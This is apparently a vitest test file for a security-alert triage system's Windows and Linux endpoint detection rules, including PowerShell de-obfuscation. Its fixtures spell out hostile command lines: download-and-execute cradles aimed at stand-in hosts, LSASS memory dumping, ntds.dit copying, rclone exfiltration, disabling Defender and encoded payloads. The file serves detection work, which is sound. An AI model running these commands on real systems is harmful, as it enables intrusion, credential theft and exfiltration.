import { deflateRawSync } from 'node:zlib';
import { AlertSignals, type AlertSignalsInput, type NormalizedAlert } from '@triage/contracts';
import { describe, expect, it } from 'vitest';
import { alertOf, cpuPerVerdict, verdictOf } from '../fixtures.test-support.ts';
import { ENDPOINT_KNOWLEDGE, endpointRules } from '../rules/endpoint.rules.ts';
import type { RuleContext } from '../rules/evidence.ts';
import { decodedForms, deobfuscate } from '../rules/powershell.ts';
import { DECODED } from './row.ts';

/**
 * Endpoint knowledge, per area: what must hold, what must not, and content dressed up as routine
 * activity that must never come out benign. Alerts carry typed signals with provenance as the
 * normalizers write them (image paths, hashes, event ids metadata; command lines, scripts, file
 * and registry paths content).
 */

/** Paths a normalizer can record as metadata (what the sensor or SIEM measured). */
const METADATA_CAPABLE = new Set([
  'process.image',
  'parent.image',
  'grandparent.image',
  'target_process.image',
  'target_process.granted_access',
  'process.user',
  'process.integrity_level',
  'process.signer',
  'process.signature_status',
  'process.call_trace',
  'file.signer',
  'file.signature_status',
  'file.signed',
  'file.path',
  'file.action',
  'event.id',
  'event.channel',
  'event.provider',
  'event.action',
  'auth.logon_type',
  'auth.outcome',
  'network.src_ip',
  'source_verdict.av_detections',
  'source_verdict.av_engines',
  'source_verdict.threat_name',
  'source_verdict.action',
  'persistence.kind',
]);

const CONTENT_PATHS = new Set([
  'process.command_line',
  'parent.command_line',
  'process.current_directory',
  'process.original_file_name',
  'script.text',
  'persistence.command',
  'persistence.name',
  'registry.key',
  'registry.data',
  'network.url',
]);

/** An alert whose signals are metadata unless listed in CONTENT_PATHS (or forced to content). */
function endpoint(
  signals: AlertSignalsInput,
  opts: { content?: string[]; name?: string } = {},
): NormalizedAlert {
  const provenance: Record<string, { origin: 'metadata' | 'content'; from: string }> = {};
  for (const [section, fields] of Object.entries(signals)) {
    if (section === 'provenance' || typeof fields !== 'object' || fields === null) continue;
    for (const field of Object.keys(fields)) {
      const path = `${section}.${field}`;
      const content = CONTENT_PATHS.has(path) || opts.content?.includes(path);
      provenance[path] = { origin: content ? 'content' : 'metadata', from: `test.${path}` };
    }
  }
  // The flat fields a normalizer derives from the same signals (the other rules read those too).
  const base = (p?: string) => p?.slice(p.lastIndexOf('\\') + 1);
  const p = signals.process;
  return alertOf({
    name: opts.name ?? 'Sysmon event',
    format: 'windows',
    ...(p
      ? {
          process: {
            ...(p.image ? { name: base(p.image) } : {}),
            ...(p.command_line ? { command_line: p.command_line } : {}),
            ...(signals.parent?.image ? { parent_name: base(signals.parent.image) } : {}),
          },
        }
      : {}),
    // The rules read the name from the signals, as a normalizer writes it.
    signals: AlertSignals.parse({
      ...signals,
      ...(opts.name
        ? { detection: { rule_name: opts.name, rule_name_template: opts.name, ...signals.detection } }
        : {}),
      provenance: {
        ...provenance,
        ...(opts.name
          ? {
              'detection.rule_name': { origin: 'metadata', from: 'test.name' },
              'detection.rule_name_template': { origin: 'metadata', from: 'test.name' },
            }
          : {}),
      },
    }),
  });
}

const run = (a: NormalizedAlert) => endpointRules({ alert: a } as RuleContext);
const ids = (a: NormalizedAlert) => run(a).map((e) => e.id);
const proc = (image: string, parentImage: string, commandLine = '', extra: AlertSignalsInput = {}) =>
  endpoint({
    event: { id: '1', action: 'process_creation' },
    process: { image, ...(commandLine ? { command_line: commandLine } : {}) },
    parent: { image: parentImage },
    ...extra,
  });

const SYS = 'C:\\Windows\\System32\\';

describe('knowledge tables', () => {
  it('every row is well formed: unique id, a reason, ATT&CK ids on threat rows', () => {
    const seen = new Set<string>();
    for (const r of ENDPOINT_KNOWLEDGE.rows) {
      expect(seen.has(r.id), r.id).toBe(false);
      seen.add(r.id);
      expect(r.why.length, r.id).toBeGreaterThan(20);
      expect(r.signals.length, r.id).toBeGreaterThan(0);
      if (r.weight >= 2) expect(r.mitre?.length, r.id).toBeGreaterThan(0);
    }
    expect(ENDPOINT_KNOWLEDGE.rows.length).toBeGreaterThan(80);
  });

  it('benign rows read only signals a normalizer records as metadata', () => {
    for (const r of ENDPOINT_KNOWLEDGE.rows.filter((x) => x.weight < 0)) {
      const paths = [...r.signals, ...(r.also ?? []).flatMap((c) => c.in)];
      for (const p of paths) expect(METADATA_CAPABLE.has(p), `${r.id} reads ${p}`).toBe(true);
      expect(paths).not.toContain(DECODED);
    }
  });

  it('every item names its basis; benign items rest on metadata only', () => {
    const a = proc(`${SYS}svchost.exe`, `${SYS}services.exe`, 'svchost.exe -k netsvcs');
    const out = run(a);
    expect(out.length).toBeGreaterThan(0);
    for (const e of out) {
      expect(e.basis?.length, e.id).toBeGreaterThan(0);
      if (e.weight < 0)
        for (const b of e.basis!) expect(a.signals!.provenance[b]?.origin, b).toBe('metadata');
    }
  });
});

describe('process lineage', () => {
  it.each([
    [
      'winword → powershell',
      `${SYS}WindowsPowerShell\\v1.0\\powershell.exe`,
      'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      'lineage.office_child',
    ],
    [
      'excel → mshta',
      `${SYS}mshta.exe`,
      'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
      'lineage.office_child',
    ],
    [
      'acrobat reader → cmd',
      `${SYS}cmd.exe`,
      'C:\\Program Files (x86)\\Adobe\\Acrobat Reader DC\\Reader\\AcroRd32.exe',
      'lineage.pdf_child',
    ],
    [
      'chrome → wscript',
      `${SYS}wscript.exe`,
      'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
      'lineage.browser_child',
    ],
    ['w3wp → cmd (webshell)', `${SYS}cmd.exe`, `${SYS}inetsrv\\w3wp.exe`, 'lineage.server_shell'],
    [
      'wmiprvse → powershell',
      `${SYS}WindowsPowerShell\\v1.0\\powershell.exe`,
      `${SYS}wbem\\WmiPrvSE.exe`,
      'lineage.wmi_child',
    ],
    ['wsmprovhost → cmd', `${SYS}cmd.exe`, `${SYS}wsmprovhost.exe`, 'lineage.winrm_child'],
    [
      'psexesvc → anything',
      'C:\\Windows\\Temp\\tool.exe',
      'C:\\Windows\\PSEXESVC.exe',
      'lineage.psexec_child',
    ],
    ['services → cmd', `${SYS}cmd.exe`, `${SYS}services.exe`, 'lineage.service_shell'],
    ['spoolsv → rundll32', `${SYS}rundll32.exe`, `${SYS}spoolsv.exe`, 'lineage.print_spooler_child'],
    ['svchost from explorer', `${SYS}svchost.exe`, 'C:\\Windows\\explorer.exe', 'lineage.svchost_parent'],
  ])('%s', (_, image, parent, id) => {
    expect(ids(proc(image, parent))).toContain(id);
  });

  it('Linux: a web server starting a shell', () => {
    const a = endpoint({ process: { image: '/bin/bash' }, parent: { image: '/usr/sbin/apache2' } });
    expect(ids(a)).toContain('lineage.server_shell');
  });

  it('the Windows service chain is routine; the same names elsewhere are not', () => {
    const ok = run(proc(`${SYS}svchost.exe`, `${SYS}services.exe`));
    expect(ok.find((e) => e.id === 'lineage.os_chain')?.weight).toBeLessThan(0);
    expect(ids(proc(`${SYS}taskhostw.exe`, `${SYS}svchost.exe`))).toContain('lineage.os_chain');
    const fake = ids(proc('C:\\Users\\bob\\AppData\\Local\\Temp\\svchost.exe', `${SYS}services.exe`));
    expect(fake).not.toContain('lineage.os_chain');
    expect(fake).toContain('location.masquerade');
  });

  it('explorer → cmd, cmd → ping and office → splwow64 are not lineage findings', () => {
    expect(
      ids(proc(`${SYS}cmd.exe`, 'C:\\Windows\\explorer.exe')).filter((i) => i.startsWith('lineage.')),
    ).toEqual([]);
    expect(ids(proc(`${SYS}PING.EXE`, `${SYS}cmd.exe`)).filter((i) => i.startsWith('lineage.'))).toEqual([]);
    expect(
      ids(
        proc('C:\\Windows\\splwow64.exe', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'),
      ),
    ).not.toContain('lineage.office_child');
  });
});

describe('LOLBins', () => {
  const cmd = (line: string, image = `${SYS}cmd.exe`) => ids(proc(image, `${SYS}cmd.exe`, line));
  it.each([
    ['certutil -addstore -f root C:\\Users\\a\\AppData\\Local\\Temp\\c.cer', 'lolbin.certutil_trust'],
    ['certutil -encode payload.bin out.b64', 'lolbin.certutil_encode'],
    ['curl.exe -o C:\\Users\\Public\\a.exe https://files.example/a.exe', 'lolbin.curl_download'],
    ['curl --output x.dll https://93.184.216.34/x.dll', 'lolbin.download_bare_ip'],
    [
      'bitsadmin /transfer j https://raw.githubusercontent.com/x/y/main/p.ps1 C:\\p.ps1',
      'lolbin.download_file_share',
    ],
    ['rundll32.exe \\\\10.1.1.5\\share\\x.dll,Start', 'lolbin.rundll32_unusual'],
    ['rundll32.exe C:\\Users\\Public\\data.dat,DllMain', 'lolbin.rundll32_unusual'],
    ['regsvr32 /s C:\\Windows\\Temp\\a.dll', 'lolbin.regsvr32_staged'],
    [
      'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Users\\Public\\p.xml',
      'lolbin.msbuild_inline',
    ],
    ['InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\a\\p.dll', 'lolbin.dotnet_awl_bypass'],
    ['msiexec /q /i http://203.0.113.9/p.msi', 'lolbin.msiexec_remote'],
    ['wmic os get /format:"https://evil.example/x.xsl"', 'lolbin.xsl_script'],
    ['esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\Temp\\n.dit', 'lolbin.esentutl_copy'],
    [
      'cmd /c mklink C:\\Windows\\System32\\osk.exe C:\\Windows\\System32\\cmd.exe',
      'lolbin.accessibility_hijack',
    ],
    ['sc stop WinDefend', 'lolbin.security_service_stop'],
    [
      'schtasks /Change /TN "\\Microsoft\\Windows\\SystemRestore\\SR" /disable',
      'lolbin.system_task_disabled',
    ],
    ['findstr /S cpassword \\\\corp.local\\sysvol\\*.xml', 'lolbin.gpp_password'],
    ['vssadmin create shadow /for=C:', 'lolbin.shadow_copy_access'],
    ['python.exe -c "import base64;exec(base64.b64decode(\'aW1wb3J0IG9z\'))"', 'lolbin.interpreter_encoded'],
    ['ssh -o ProxyCommand="cmd /c calc.exe" host', 'lolbin.indirect_exec'],
    ['rclone copy C:\\Shares remote:loot', 'lolbin.exfil_tool'],
  ])('%s → %s', (line, id) => {
    expect(cmd(line)).toContain(id);
  });

  it.each([
    'certutil -hashfile setup.exe SHA256',
    'curl https://api.example.com/status',
    'rundll32.exe shell32.dll,Control_RunDLL desk.cpl',
    'regsvr32 /s "C:\\Program Files\\Vendor\\x.dll"',
    'msiexec /i "C:\\Windows\\ccmcache\\a\\setup.msi" /qn',
    'sc query WinDefend',
    'MSBuild.exe C:\\src\\app\\app.sln /p:Configuration=Release',
  ])('administration is not abuse: %s', (line) => {
    expect(cmd(line).filter((i) => i.startsWith('lolbin.'))).toEqual([]);
  });

  it.each([
    ['wscript.exe "C:\\Users\\bob\\Downloads\\invoice.js"', 'lolbin.script_from_user_folder'],
    [
      'powershell.exe -ExecutionPolicy Bypass -File C:\\Users\\bob\\AppData\\Local\\s.ps1',
      'lolbin.ps_script_from_user_folder',
    ],
    ['rundll32 payload.dll,#2', 'lolbin.rundll32_ordinal'],
    [
      'REG ADD HKCU\\Software\\X /v y /t REG_SZ /d SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAA==',
      'lolbin.registry_payload',
    ],
    ['finger user@198.51.100.4', 'lolbin.finger'],
  ])('%s → %s', (line, id) => {
    expect(cmd(line)).toContain(id);
  });

  it('script hosts, ordinals and auto-elevating binaries in their ordinary uses', () => {
    expect(cmd('wscript.exe "C:\\Program Files\\Vendor\\logon.vbs"')).not.toContain(
      'lolbin.script_from_user_folder',
    );
    expect(cmd('rundll32 shell32.dll,#61')).not.toContain('lolbin.rundll32_ordinal');
    expect(ids(proc(`${SYS}fodhelper.exe`, `${SYS}cmd.exe`))).toContain('lolbin.auto_elevate');
    expect(ids(proc(`${SYS}fodhelper.exe`, 'C:\\Windows\\explorer.exe'))).not.toContain(
      'lolbin.auto_elevate',
    );
  });

  it('rundll32 without arguments (a sacrificial process)', () => {
    expect(ids(proc(`${SYS}rundll32.exe`, `${SYS}cmd.exe`, 'C:\\Windows\\system32\\rundll32.exe'))).toContain(
      'lolbin.rundll32_bare',
    );
  });
});

describe('locations, masquerading, tools', () => {
  it('system names outside System32 are masquerading; in System32 they are not', () => {
    expect(ids(proc('C:\\Users\\a\\Downloads\\svchost.exe', `${SYS}cmd.exe`))).toContain(
      'location.masquerade',
    );
    expect(ids(proc('C:\\ProgramData\\lsass.exe', `${SYS}cmd.exe`))).toContain('location.masquerade');
    expect(ids(proc('C:\\Windows\\svchost.exe', `${SYS}cmd.exe`))).toContain('location.masquerade');
    expect(ids(proc(`${SYS}svchost.exe`, `${SYS}services.exe`))).not.toContain('location.masquerade');
    expect(ids(proc('C:\\Windows\\SysWOW64\\rundll32.exe', `${SYS}cmd.exe`))).not.toContain(
      'location.masquerade',
    );
  });

  it('staging folders, user-writable folders and installed software', () => {
    expect(ids(proc('C:\\Users\\Public\\a.exe', 'C:\\Windows\\explorer.exe'))).toContain(
      'location.staging_exec',
    );
    expect(
      ids(proc('C:\\Users\\bob\\AppData\\Local\\Programs\\app\\app.exe', 'C:\\Windows\\explorer.exe')),
    ).toContain('location.user_writable_exec');
    const installed = ids(proc('C:\\Program Files\\Vendor\\app.exe', 'C:\\Windows\\explorer.exe'));
    expect(installed.filter((i) => i.startsWith('location.'))).toEqual([]);
  });

  it('attack tools by name, on disk or in a command line', () => {
    expect(ids(proc('C:\\Users\\a\\Downloads\\mimikatz.exe', `${SYS}cmd.exe`))).toContain(
      'location.hacktool',
    );
    expect(ids(proc(`${SYS}cmd.exe`, `${SYS}cmd.exe`, 'cmd /c SharpHound.exe -c All'))).toContain(
      'location.hacktool',
    );
    const drop = endpoint({
      event: { id: '11', action: 'file_create' },
      process: { image: 'C:\\Windows\\explorer.exe' },
      file: { path: 'C:\\Users\\a\\Downloads\\Rubeus.exe', action: 'created' },
    });
    expect(ids(drop)).toContain('location.hacktool');
  });

  it('system DLL names planted, side-loading, LSASS dumps, deceptive names', () => {
    const file = (path: string, image = `${SYS}cmd.exe`, action = 'created') =>
      ids(endpoint({ process: { image }, file: { path, action } }));
    expect(file('C:\\Users\\Public\\version.dll')).toContain('location.system_binary_dropped');
    expect(file(`${SYS}version.dll`)).not.toContain('location.system_binary_dropped');
    expect(file(`${SYS}wlbsctrl.dll`)).toContain('location.system_dll_planted');
    expect(
      file(
        'C:\\Users\\a\\AppData\\Local\\Temp\\dbghelp.dll',
        'C:\\Users\\a\\AppData\\Local\\Temp\\app.exe',
        'loaded',
      ),
    ).toContain('location.sideload');
    expect(file('C:\\Windows\\Temp\\lsass.dmp')).toContain('location.dump_file');
    expect(file('C:\\Users\\a\\Downloads\\invoice\u202efdp.exe')).toContain('location.deceptive_name');
    expect(file('C:\\Users\\a\\Downloads\\invoice.pdf.exe')).toContain('location.deceptive_name');
    expect(file('C:\\Users\\a\\Documents\\report.pdf')).toEqual([]);
  });

  it('a renamed LOLBin is caught by its PE original name', () => {
    const a = endpoint({
      event: { id: '1', action: 'process_creation' },
      process: { image: 'C:\\Users\\a\\Downloads\\notes.exe', original_file_name: 'certutil.exe' },
    });
    expect(ids(a)).toContain('location.renamed_binary');
    const same = endpoint({ process: { image: `${SYS}certutil.exe`, original_file_name: 'CertUtil.exe' } });
    expect(ids(same)).not.toContain('location.renamed_binary');
  });
});

describe('persistence and registry', () => {
  it('services running shells or user-folder binaries; remote-execution services', () => {
    const svc = (command: string, name = 'svc') =>
      ids(endpoint({ event: { id: '7045' }, persistence: { kind: 'service', name, command } }));
    expect(svc('%COMSPEC% /Q /c echo cd > \\\\127.0.0.1\\C$\\__output 2>&1')).toContain(
      'persistence.service_shell',
    );
    expect(svc('C:\\Users\\bob\\AppData\\Roaming\\upd.exe')).toContain('persistence.service_user_path');
    expect(svc('%SystemRoot%\\PSEXESVC.exe', 'PSEXESVC')).toContain('persistence.remote_exec_service');
    expect(svc('"C:\\Program Files\\Vendor\\agent.exe" -service')).toEqual([]);
  });

  it('Run keys: a value is persistence, a target in a user folder is malware-like', () => {
    const reg = (key: string, data: string) =>
      ids(
        endpoint({
          event: { id: '13' },
          process: { image: `${SYS}reg.exe` },
          registry: { key, data, action: 'set' },
        }),
      );
    const user = reg(
      'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd',
      'C:\\Users\\bob\\AppData\\Roaming\\upd.exe',
    );
    expect(user).toEqual(
      expect.arrayContaining(['persistence.autorun_key', 'persistence.autorun_user_path']),
    );
    const vendor = reg(
      'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Vendor',
      '"C:\\Program Files\\Vendor\\tray.exe"',
    );
    expect(vendor).toContain('persistence.autorun_key');
    expect(vendor).not.toContain('persistence.autorun_user_path');
  });

  it('the same keys written with reg add on a command line', () => {
    const line = (l: string) => ids(proc(`${SYS}reg.exe`, `${SYS}cmd.exe`, l));
    expect(
      line(
        'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\SystemRestore" /v "DisableSR" /t REG_DWORD /d 1 /f',
      ),
    ).toContain('registry.security_disabled');
    expect(
      line('reg add "HKCU\\Software\\Microsoft\\Windows Script\\Settings" /v AmsiEnable /d 0 /f'),
    ).toContain('registry.security_disabled');
    expect(
      line(
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /d cmd.exe',
      ),
    ).toContain('persistence.execution_hijack');
    expect(
      line('reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion" /v CurrentBuild'),
    ).not.toContain('registry.security_disabled');
  });

  it('a security setting written by Group Policy (svchost) is not tampering', () => {
    const key = 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware';
    const by = (image: string) =>
      ids(
        endpoint({ event: { id: '13' }, process: { image }, registry: { key, data: 'DWORD (0x00000000)' } }),
      );
    expect(by(`${SYS}svchost.exe`)).not.toContain('registry.security_disabled');
    expect(by('C:\\Users\\Public\\x.exe')).toContain('registry.security_disabled');
  });

  it('UAC bypass keys and hidden accounts', () => {
    const key = (k: string) => ids(endpoint({ registry: { key: k }, process: { image: `${SYS}reg.exe` } }));
    expect(key('HKU\\S-1-5-21-1_Classes\\ms-settings\\shell\\open\\command\\DelegateExecute')).toContain(
      'persistence.uac_bypass_key',
    );
    expect(
      key('HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\Userlist\\op$'),
    ).toContain('registry.hide_artifact');
  });
});

describe('credential access', () => {
  const access = (source: string, mask: string, target = `${SYS}lsass.exe`) =>
    ids(
      endpoint({
        event: { id: '10', action: 'process_access' },
        process: { image: source },
        target_process: { image: target, granted_access: mask },
      }),
    );
  it('reading LSASS memory from an unusual program', () => {
    expect(access('C:\\Users\\a\\Downloads\\x.exe', '0x1010')).toContain('cred.lsass_access');
    expect(access('C:\\Users\\a\\Downloads\\x.exe', '0x1fffff')).toContain('cred.lsass_access');
  });
  it('query-only access and Windows/Defender readers are not credential theft', () => {
    expect(access('C:\\Users\\a\\Downloads\\x.exe', '0x1000')).not.toContain('cred.lsass_access');
    expect(access(`${SYS}csrss.exe`, '0x1fffff')).not.toContain('cred.lsass_access');
    expect(
      access('C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.1-0\\MsMpEng.exe', '0x1fffff'),
    ).not.toContain('cred.lsass_access');
  });
  it('full access to the antivirus process', () => {
    expect(
      access(
        'C:\\Users\\a\\x.exe',
        '0x1fffff',
        'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4\\MsMpEng.exe',
      ),
    ).toContain('cred.security_process_access');
  });
  it('dumping commands are judged too (procdump by pid, comsvcs)', () => {
    const v = verdictOf(
      proc(
        `${SYS}rundll32.exe`,
        `${SYS}cmd.exe`,
        'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\o.dmp full',
      ),
    );
    expect(v.classification).toBe('TRUE_POSITIVE');
  });
});

describe('discovery', () => {
  it('one command weighs little; a chain is an intruder surveying the host', () => {
    const one = run(proc(`${SYS}whoami.exe`, `${SYS}cmd.exe`, 'whoami'));
    expect(one.reduce((s, e) => s + e.weight, 0)).toBeLessThan(1.5);
    const chain = ids(
      proc(
        `${SYS}cmd.exe`,
        `${SYS}cmd.exe`,
        'cmd /c "whoami & ipconfig /all & net user & systeminfo & tasklist /svc"',
      ),
    );
    expect(chain).toContain('discovery.chain');
  });
  it('AD collection and security-product lookups weigh on their own', () => {
    expect(ids(proc(`${SYS}cmd.exe`, `${SYS}cmd.exe`, 'AdFind.exe -f (objectcategory=person)'))).toContain(
      'discovery.ad_collector',
    );
    expect(ids(proc(`${SYS}findstr.exe`, `${SYS}cmd.exe`, 'findstr /i "defender sophos"'))).toContain(
      'discovery.security_software',
    );
  });
});

describe('OS maintenance and routine events (metadata only)', () => {
  it('maintenance binaries started by system services are routine', () => {
    const tiworker =
      'C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.1_none_1\\TiWorker.exe';
    expect(
      run(proc(tiworker, `${SYS}svchost.exe`)).find((e) => e.id === 'routine.os_maintenance')?.weight,
    ).toBeLessThan(0);
    expect(ids(proc(`${SYS}CompatTelRunner.exe`, `${SYS}svchost.exe`))).toContain('routine.os_maintenance');
    expect(
      ids(
        proc(
          'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2-0\\MpCmdRun.exe',
          `${SYS}svchost.exe`,
        ),
      ),
    ).toContain('routine.os_maintenance');
  });

  it('content dressed as maintenance is never benign', () => {
    // A dropper named like the update agent, in a user folder, with "windows update" in its command line.
    const fake = run(
      proc(
        'C:\\Users\\bob\\AppData\\Local\\Temp\\wuauclt.exe',
        `${SYS}svchost.exe`,
        'wuauclt.exe /UpdateDeploymentProvider windows update maintenance TiWorker',
      ),
    );
    expect(fake.filter((e) => e.weight < 0)).toEqual([]);
    expect(fake.map((e) => e.id)).toContain('location.masquerade');
    // The right image path, but only as content (a generic alert's text): not measured, not benign.
    const claimed = endpoint(
      { process: { image: `${SYS}CompatTelRunner.exe` }, parent: { image: `${SYS}svchost.exe` } },
      { content: ['process.image', 'parent.image'] },
    );
    expect(run(claimed).filter((e) => e.weight < 0)).toEqual([]);
    // Maintenance lineage does not cancel what the command line does.
    const abused = verdictOf(
      proc(
        `${SYS}rundll32.exe`,
        `${SYS}svchost.exe`,
        'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";eval("w=new ActiveXObject(\\"WScript.Shell\\")")',
      ),
    );
    expect(abused.classification).not.toBe('FALSE_POSITIVE');
  });

  it('Microsoft-signed modules from System32 are routine; the same signer in a user folder is not', () => {
    const load = (path: string, image = `${SYS}svchost.exe`) =>
      ids(
        endpoint({
          event: { id: '7', action: 'image_load' },
          process: { image },
          file: { path, signer: 'Microsoft Windows', signature_status: 'Valid', action: 'loaded' },
        }),
      );
    expect(load(`${SYS}wbem\\wmiutils.dll`)).toContain('routine.microsoft_signed_module');
    expect(
      load('C:\\Users\\a\\AppData\\Local\\Temp\\dbghelp.dll', 'C:\\Users\\a\\AppData\\Local\\Temp\\x.exe'),
    ).not.toContain('routine.microsoft_signed_module');
  });

  it('AppLocker "allowed" is routine; "audited" (would be blocked) is not', () => {
    const applocker = (action: string) =>
      ids(
        endpoint({
          event: { id: '8002', channel: 'Microsoft-Windows-AppLocker/EXE and DLL' },
          source_verdict: { action },
        }),
      );
    expect(applocker('allowed')).toContain('routine.applocker_allowed');
    expect(applocker('audited')).not.toContain('routine.applocker_allowed');
  });

  it('admin shares raise, other share sessions are routine, per-object access (named pipes) is not', () => {
    const share = (path: string, id = '5140') =>
      ids(endpoint({ event: { id, channel: 'Security' }, file: { path } }, { content: ['file.path'] }));
    expect(share('\\\\*\\SYSVOL')).toContain('routine.share_access');
    expect(share('\\\\*\\IPC$')).toContain('routine.share_access');
    expect(share('\\\\*\\IPC$', '5145')).not.toContain('routine.share_access');
    const admin = share('\\\\*\\ADMIN$');
    expect(admin).toContain('routine.admin_share_access');
    expect(admin).not.toContain('routine.share_access');
  });

  it('packaged (Store) app records are routine unless the policy blocked them', () => {
    const app = (action: string) =>
      ids(
        endpoint({
          event: { id: '8021', channel: 'Microsoft-Windows-AppLocker/Packaged app-Execution' },
          source_verdict: { action },
        }),
      );
    expect(app('audited')).toContain('routine.packaged_app');
    expect(app('blocked')).not.toContain('routine.packaged_app');
  });

  it('Windows servicing explains away a "file changed" claim; another writer does not', () => {
    const del = (image: string) =>
      verdictOf(
        endpoint(
          {
            event: { id: '23', action: 'file_delete' },
            process: { image },
            file: { path: 'C:\\Windows\\SysWOW64\\WsmRes.dll', action: 'deleted' },
          },
          { name: 'Sysmon - Event 23: File deleted and archived' },
        ),
      ).evidence.map((e) => e.id);
    const servicing = del(`${SYS}poqexec.exe`);
    expect(servicing).toContain('routine.servicing_file_change');
    expect(servicing).not.toContain('kind.integrity.change');
    const other = del('C:\\Users\\a\\x.exe');
    expect(other).not.toContain('routine.servicing_file_change');
    expect(other).toContain('kind.integrity.change');
  });
});

describe('AV results carried in the alert', () => {
  const av = (
    sv: AlertSignalsInput['source_verdict'],
    extra: AlertSignalsInput = {},
    content: string[] = [],
  ) => run(endpoint({ source_verdict: sv, ...extra }, { content }));
  it('zero detections of many engines is benign; detections are a threat', () => {
    expect(
      av({ av_detections: 0, av_engines: 72 }).find((e) => e.id === 'av.zero_detections')?.weight,
    ).toBeLessThan(0);
    expect(av({ av_detections: 0, av_engines: 3 }).map((e) => e.id)).not.toContain('av.zero_detections');
    expect(av({ av_detections: 14, av_engines: 72 }).map((e) => e.id)).toContain('av.many_detections');
  });
  it('EICAR is a test only when the product named it', () => {
    expect(av({ threat_name: 'Virus:DOS/EICAR_Test_File' }).map((e) => e.id)).toContain('av.eicar_test');
    // The same name, but only as content (parsed out of a message): not a detection.
    expect(
      av({ threat_name: 'Virus:DOS/EICAR_Test_File' }, {}, ['source_verdict.threat_name']).filter(
        (e) => e.weight < 0,
      ),
    ).toEqual([]);
    // "eicar" in a command line is the attacker's word.
    const line = run(
      proc(
        `${SYS}cmd.exe`,
        `${SYS}cmd.exe`,
        'certutil -urlcache -f http://x/eicar.com e.exe & echo EICAR test',
      ),
    );
    expect(line.filter((e) => e.weight < 0)).toEqual([]);
  });
  it('a real family name is a threat, the EICAR one is not', () => {
    expect(av({ threat_name: 'Trojan:Win32/Emotet.A' }).map((e) => e.id)).toContain('av.threat_detected');
    expect(av({ threat_name: 'Virus:DOS/EICAR_Test_File' }).map((e) => e.id)).not.toContain(
      'av.threat_detected',
    );
  });
});

describe('PowerShell decoding and de-obfuscation', () => {
  it('undoes backticks, concatenation, format strings and char codes', () => {
    expect(deobfuscate("I`E`X (New-Object Net.WebClient).('Down'+'loadString')('http://x')")).toContain(
      "('DownloadString')",
    );
    expect(deobfuscate(`&("{1}{0}" -f 'EX','I')`)).toContain("'IEX'");
    expect(deobfuscate('([char]73+[char]69+[char]88)')).toBe("('IEX')");
    expect(deobfuscate('[char[]](73,69,88) -join ""')).toContain("'IEX'");
  });

  it('decodes -enc, FromBase64String and compressed streams, and judges the result', () => {
    const inner = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";
    const z = deflateRawSync(Buffer.from(inner)).toString('base64');
    const line = `powershell -nop -c "IEX(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${z}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"`;
    expect(decodedForms([line])).toContain(inner);
    const v = verdictOf(proc(`${SYS}WindowsPowerShell\\v1.0\\powershell.exe`, `${SYS}cmd.exe`, line));
    expect(v.evidence.map((e) => e.id)).toEqual(expect.arrayContaining(['ps.compressed_payload']));
    expect(v.classification).toBe('TRUE_POSITIVE');
  });

  it('a script block (4104) with an obfuscated cradle is judged like a command line', () => {
    const a = endpoint({
      event: { id: '4104', action: 'powershell_script_block' },
      script: {
        text: `$a = 'Down'+'loadString'; I\`E\`X (New-Object Net.WebClient).$a('http://203.0.113.5/p')`,
      },
    });
    expect(ids(a)).toEqual(expect.arrayContaining(['ps.download_cradle']));
  });

  it('an encoded command in a service definition is decoded', () => {
    const b64 = Buffer.from("IEX (iwr 'http://203.0.113.5/s')", 'utf16le').toString('base64');
    const a = endpoint({
      event: { id: '7045' },
      persistence: { kind: 'service', command: `powershell -w hidden -enc ${b64}` },
    });
    expect(ids(a)).toEqual(
      expect.arrayContaining(['ps.encoded_command', 'ps.pipe_to_iex', 'persistence.service_shell']),
    );
  });

  it('bounded: a decompression bomb inflates to at most 256 KiB', () => {
    const bomb = deflateRawSync(Buffer.alloc(50 * 1024 * 1024, 0x41)).toString('base64');
    const out = decodedForms([`[IO.Compression.DeflateStream] [Convert]::FromBase64String('${bomb}')`]);
    expect(out.length).toBeGreaterThan(0);
    expect(out.every((d) => d.length <= 256 * 1024)).toBe(true);
    // A payload padded past the limit is still read up to it: padding does not hide the cradle.
    const padded = deflateRawSync(
      Buffer.from(
        `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.8/a')${' '.repeat(1_000_000)}`,
      ),
    ).toString('base64');
    const forms = decodedForms([`[IO.Compression.DeflateStream] [Convert]::FromBase64String('${padded}')`]);
    expect(forms.some((f) => f.startsWith('IEX (New-Object Net.WebClient).DownloadString('))).toBe(true);
  });
});

/**
 * Bounded work on the signals this file's rules read: the worst values we can construct at the
 * largest a signal holds (64 KiB), each costing at most a bounded multiple of a plain endpoint
 * alert's whole verdict, measured in the same run (a ratio: absolute times move with load).
 */
